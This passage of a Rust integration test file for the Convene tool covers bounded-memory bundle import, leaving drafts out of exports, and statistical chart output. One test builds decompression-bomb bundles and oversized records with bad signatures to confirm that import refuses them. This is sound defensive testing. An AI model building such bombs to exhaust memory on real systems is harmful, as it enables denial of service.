        .stdout(std::fs::File::create(&out_path).unwrap())
        .stderr(std::fs::File::create(&err_path).unwrap())
        .spawn()
        .unwrap();
    let status_path = format!("/proc/{}/status", child.id());
    let deadline = Instant::now() + Duration::from_secs(300);
    let mut peak_kib = 0u64;
    let status = loop {
        if let Ok(status) = std::fs::read_to_string(&status_path)
            && let Some(kib) = status
                .lines()
                .find_map(|l| l.strip_prefix("VmHWM:"))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        {
            peak_kib = peak_kib.max(kib);
        }
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            panic!("convene {args:?} did not finish in 300 s");
        }
        std::thread::sleep(Duration::from_millis(1));
    };
    assert!(peak_kib > 0, "no sample of convene {args:?}");
    (
        status.success(),
        std::fs::read_to_string(out_path).unwrap(),
        std::fs::read_to_string(err_path).unwrap(),
        peak_kib as f64 / 1024.0,
    )
}

/// The bound issue 13 sets for importing any bundle, valid or hostile.
const IMPORT_PEAK_MIB: f64 = 200.0;

/// Issue 13, item 7: decompression bombs with valid checksums (anyone can
/// make one) are refused within the memory bound, and nothing is applied.
#[test]
fn a_bomb_bundle_is_refused_in_bounded_memory() {
    use convene_node::bundle::{self, Header, Item};
    use convene_node::sync::wire::WireChange;
    use std::io::Write;
    let home = Home::for_org("Bombed Council", "council");
    let zeros = vec![0u8; 1 << 20];
    // Version 1, as Convene wrote until now: 1 GiB of zeros in about 1 MB.
    let v1 = home.path().join("v1-bomb.bundle");
    let bytes = bundle::craft(1, |z: &mut dyn Write| {
        (0..1024).try_for_each(|_| z.write_all(&zeros))
    })
    .unwrap();
    assert!(bytes.len() < 2 << 20, "{} bytes", bytes.len());
    std::fs::write(&v1, bytes).unwrap();
    // Version 2: change records as large as allowed (512 MiB of zeros,
    // valid records with bad signatures), in about 1 MB.
    let v2 = home.path().join("v2-bomb.bundle");
    let header = Header {
        changes: 64,
        ..Header::default()
    };
    let huge = |_| {
        Item::Change(WireChange {
            doc: [0; 16],
            hash: [0; 32],
            signer: [0; 32],
            signature: vec![0; 64],
            bytes: vec![0; bundle::MAX_CHANGE_RECORD as usize - 200],
        })
    };
    let bytes = bundle::encode_items(&header, (0..64).map(huge), &mut |_, _| {});
    assert!(bytes.len() < 2 << 20, "{} bytes", bytes.len());
    std::fs::write(&v2, bytes).unwrap();

    let before = home.ids();
    for (path, refusal) in [
        (&v1, "version 1 and inflates to more than 32 MiB"),
        (&v2, "64 of its signatures do not verify"),
    ] {
        let started = std::time::Instant::now();
        let (ok, _, stderr, peak) = run_measuring_peak(&home, &["import", path.to_str().unwrap()]);
        eprintln!(
            "{}: peak {peak:.1} MiB in {:?}",
            path.display(),
            started.elapsed()
        );
        assert!(peak < IMPORT_PEAK_MIB, "peak {peak:.1} MiB: {stderr}");
        assert!(!ok, "{stderr}");
        assert!(stderr.contains(refusal), "{stderr}");
        assert_eq!(home.ids(), before, "nothing applied");
    }
}

/// Issue 13, item 7: a large valid bundle (3,000 entries: three batches
/// of changes) is applied in batches, within the same bound.
#[test]
fn a_large_bundle_imports_in_bounded_memory() {
    use convene_model::{Body, EntryInput, Learning};
    const ENTRIES: usize = 3000;
    let exporter = Home::for_org("Large Exporter", "vcse");
    let inputs = (0..ENTRIES)
        .map(|i| EntryInput {
            body: Body::Learning(Learning {
                title: format!("Lesson {i}"),
                summary: format!("What lesson {i} taught us, at some length.")
                    .as_str()
                    .into(),
                ..Learning::default()
            }),
            visibility: None,
            status: None,
        })
        .collect();
    convene_node::Node::open(exporter.path())
        .unwrap()
        .publish_batch(inputs)
        .unwrap();
    let path = exporter.path().join("large.bundle");
    let out = exporter.stdout(&["export", "--out", path.to_str().unwrap()]);
    assert!(out.contains(&format!("{} changes", ENTRIES + 1)), "{out}");
    let size = std::fs::metadata(&path).unwrap().len();

    let importer = Home::for_org("Large Importer", "council");
    let started = std::time::Instant::now();
    let (ok, stdout, stderr, peak) =
        run_measuring_peak(&importer, &["import", path.to_str().unwrap()]);
    eprintln!(
        "{size} bytes bundle of {} changes: peak {peak:.1} MiB in {:?}",
        ENTRIES + 1,
        started.elapsed()
    );
    assert!(ok, "{stderr}");
    assert!(
        stdout.contains(&format!("{} new changes", ENTRIES + 1)),
        "{stdout}"
    );
    assert!(peak < IMPORT_PEAK_MIB, "peak {peak:.1} MiB");
    // Its entries, the exporter's profile and its own.
    assert_eq!(importer.ids().len(), ENTRIES + 2);
}

/// Issue 13, item 5: a draft is in no export made for others: not in a
/// bundle (for everyone or for one organisation), not in `export-csv`,
/// not in `export-md`.
#[test]
fn drafts_are_left_out_of_bundles_and_exports() {
    let home = Home::for_org("Drafting Trust", "nhs-trust");
    let other = Home::for_org("Receiving Council", "council");
    let draft = home
        .stdout(&[
            "publish",
            "learning",
            "--title",
            "Half-written wombat notes",
            "--summary",
            "Not ready.",
            "--draft",
        ])
        .trim()
        .to_string();
    let published = home.publish("Finished lesson");
    assert!(home.ids().contains(&draft), "listed at home");

    let bundle = home.path().join("all.bundle");
    home.stdout(&["export", "--out", bundle.to_str().unwrap()]);
    other.stdout(&["import", bundle.to_str().unwrap()]);
    assert!(other.ids().contains(&published));
    assert!(
        !other.ids().contains(&draft),
        "the draft travelled in a bundle"
    );

    let csv = home.path().join("learning.csv");
    home.stdout(&["export-csv", "learning", "--out", csv.to_str().unwrap()]);
    let text = std::fs::read_to_string(&csv).unwrap();
    assert!(text.contains("Finished lesson"), "{text}");
    assert!(!text.contains("wombat"), "{text}");

    let site = home.path().join("site");
    home.stdout(&["export-md", "--out", site.to_str().unwrap()]);
    for page in std::fs::read_dir(&site).unwrap() {
        let page = std::fs::read_to_string(page.unwrap().path()).unwrap();
        assert!(!page.contains("wombat"), "{page}");
    }
}

/// Minutes lost per month: a step down after a bad January. Its expected
/// XmR chart (mean 46.708…, limits 37.968… and 55.448…, the first 13
/// points concern and the other 11 improvement where lower is better, the
/// improvement (low) variation icon, hit and miss against 45) is what
/// NHSRplotthedots's own code gives for these values (see
/// `crdt-model/tests/chart_nhsrplotthedots.rs`, case `step_decrease`).
const STEP: [f64; 24] = [
    52.0, 48.0, 55.0, 50.0, 47.0, 53.0, 51.0, 49.0, 54.0, 50.0, 52.0, 48.0, 70.0, 44.0, 41.0, 39.0,
    42.0, 40.0, 38.0, 41.0, 39.0, 40.0, 37.0, 41.0,
];

#[test]
fn chart_gives_each_measures_analysis_as_json_svg_and_csv() {
    let home = Home::initialised();
    let mut args: Vec<String> = [
        "publish",
        "project",
        "--title",
        "Ambulance handover delays",
        "--summary",
        "Peer visits, then a standard operating model.",
        "--measure",
        "Minutes lost;unit=minutes;improvement=lower;target=45",
        "--measure",
        "Handovers within 30 minutes;improvement=higher;target=90",
        "--measure",
        "Not started",
    ]
    .map(String::from)
    .to_vec();
    for (i, v) in STEP.iter().enumerate() {
        args.push("--data".into());
        args.push(format!(
            "Minutes lost@{}-{:02}-01={v}",
            2023 + i / 12,
            1 + i % 12
        ));
    }
    for i in 0..16 {
        args.push("--data".into());
        args.push(format!(
            "Handovers within 30 minutes@{}-{:02}-01={}/{}",
            2024 + i / 12,
            1 + i % 12,
            60 + i,
            if i % 2 == 0 { 80 } else { 120 }
        ));
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let id = home.stdout(&args).trim().to_string();

    let v = home.json(&["chart", &id, "--json"]);
    assert_eq!(v["id"], id.as_str());
    let charts = v["charts"].as_array().unwrap();
    assert_eq!(charts.len(), 2, "{v}");
    assert_eq!(v["skipped"][0]["measure"], "Not started");

    let m = &charts[0];
    assert_eq!(m["measure"], "Minutes lost");
    assert_eq!(m["chart"], "xmr");
    assert_eq!(m["improvement"], "lower");
    let points = m["points"].as_array().unwrap();
    assert_eq!(points.len(), 24);
    let close = |v: &Value, x: f64| (v.as_f64().unwrap() - x).abs() < 1e-8;
    for p in points {
        assert!(close(&p["centre"], 46.708_333_333_3), "{p}");
        assert!(close(&p["lower_limit"], 37.968_333_333_3), "{p}");
        assert!(close(&p["upper_limit"], 55.448_333_333_3), "{p}");
    }
    let types: Vec<&str> = points
        .iter()
        .map(|p| p["point_type"].as_str().unwrap())
        .collect();
    assert_eq!(types[..13], ["special_cause_concern"; 13]);
    assert_eq!(types[13..], ["special_cause_improvement"; 11]);
    // January 2024 (70) is above the upper limit: a concern.
    assert_eq!(
        points[12]["flags"][0],
        serde_json::json!({"rule": "beyond_limit", "side": "high", "meaning": "concern"})
    );
    assert_eq!(m["variation"], "improvement_low");
    assert_eq!(m["assurance"], "inconsistent");

    let p = &charts[1];
    assert_eq!(p["chart"], "p");
    let pts = p["points"].as_array().unwrap();
    assert_eq!(pts[0]["numerator"], 60.0);
    assert_eq!(pts[0]["denominator"], 80.0);
    let (u0, u1) = (
        pts[0]["upper_limit"].as_f64().unwrap(),
        pts[1]["upper_limit"].as_f64().unwrap(),
    );
    assert!(
        u0 > u1 && u0 <= 1.0,
        "limits vary with the denominator: {u0} {u1}"
    );
    assert_eq!(p["target"], 0.9);

    // The human summary: chart, centre, limits, icons, findings.
    let text = home.stdout(&["chart", &id, "--measure", "minutes lost"]);
    assert!(text.contains("XmR chart"), "{text}");
    assert!(
        text.contains("mean 46.71, process limits 37.97 to 55.45"),
        "{text}"
    );
    assert!(
        text.contains("variation: Special cause variation: improvement (lower)"),
        "{text}"
    );
    assert!(
        text.contains("a point above the upper limit in 2024-01 (concern)"),
        "{text}"
    );
    assert!(
        !text.contains("Handovers"),
        "only the measure asked for: {text}"
    );

    // Files to take away.
    let svg = home.path().join("minutes.svg");
    let csv = home.path().join("minutes.csv");
    home.convene(&[
        "chart",
        &id,
        "--measure",
        "Minutes lost",
        "--svg",
        svg.to_str().unwrap(),
        "--csv",
        csv.to_str().unwrap(),
    ])
    .assert()
    .success();
    let svg = std::fs::read_to_string(svg).unwrap();
    assert!(svg.starts_with("<?xml"), "{svg}");
    assert!(
        svg.contains("<title id=\"chart-title\">XmR chart (individuals): Minutes lost</title>")
    );
    assert_eq!(svg.matches("<circle").count(), 24);
    let csv = std::fs::read_to_string(csv).unwrap();
    assert_eq!(csv.lines().count(), 25);
    assert!(
        csv.lines()
            .nth(13)
            .unwrap()
            .contains("beyond_limit:high:concern"),
        "{csv}"
    );

    // Bad input: one line each, non-zero exit.
    for (args, says) in [
        (
            vec!["chart", &id, "--measure", "Beds"],
            "no measure \"Beds\"",
        ),
        (
            vec!["chart", &id, "--measure", "not started"],
            "has no values to chart",
        ),
        (
            vec!["chart", &id, "--svg", "x.svg"],
            "choose it with --measure",
        ),
        (
            vec![
                "chart",
                &id,
                "--measure",
                "Minutes lost",
                "--svg",
                "/nonexistent/dir/x.svg",
            ],
            "cannot write /nonexistent/dir/x.svg",
        ),
        (vec!["chart", "zzzzzz"], "zzzzzz"),
    ] {
        let out = home.convene(&args).output().unwrap();
        assert!(!out.status.success(), "{args:?}");
        let err = String::from_utf8(out.stderr).unwrap();
        assert_eq!(err.lines().count(), 1, "{args:?}: {err}");
        assert!(err.contains(says), "{args:?}: {err}");
    }
    let learning = home.publish("What we learned");
    let out = home.convene(&["chart", &learning]).output().unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("not a project"));
}
